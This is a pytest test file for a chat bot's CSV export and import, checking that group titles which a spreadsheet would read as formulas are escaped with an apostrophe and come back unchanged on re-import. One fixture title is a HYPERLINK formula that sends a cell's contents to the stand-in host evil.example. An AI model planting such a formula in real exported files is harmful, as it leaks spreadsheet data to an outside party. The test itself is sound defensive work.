"""An outside QA pass over `python -m bot chats list --csv` («edit in Excel, import back»)
with group titles a spreadsheet takes for a formula: anyone can add the bot to a group and name
it so. The cell must open as text, and the file must import back to the same titles."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from tests.test_cli_chats import Cli
from tests.test_cli_chats import cli as cli  # a fixture

TITLES = {
    -1001000000901: '=HYPERLINK("http://evil.example/?"&A1;"Открыть")',
    -1001000000902: "+7 класс, родители",
    -1001000000903: "@школа5 — родители",
    -1001000000904: "Родители 5А",
}


def test_formula_like_titles_open_as_text_and_come_back(cli: Cli, tmp_path: Path) -> None:
    source = tmp_path / "chats.csv"
    with source.open("w", encoding="utf-8", newline="") as f:
        out = csv.writer(f)
        out.writerow(("chat_id", "title", "audience"))
        out.writerows((chat_id, title, "parents") for chat_id, title in TITLES.items())
    imported = cli("chats", "import", source)
    assert imported.returncode == 0, imported.stderr

    exported = cli("chats", "list", "--csv")
    assert exported.returncode == 0, exported.stderr
    cells = {
        int(row["chat_id"]): row["title"]
        for row in csv.DictReader(io.StringIO(exported.stdout.lstrip("\ufeff")))
        if int(row["chat_id"]) in TITLES
    }
    for chat_id, title in TITLES.items():
        formula = title[0] in "=+-@"
        assert cells[chat_id] == ("'" + title if formula else title), cells[chat_id]

    back = tmp_path / "back.csv"
    back.write_text(exported.stdout, encoding="utf-8")
    again = cli("chats", "import", back)
    assert again.returncode == 0, again.stderr
    listed = cli.listing()
    assert {i: listed[i]["title"] for i in TITLES} == TITLES
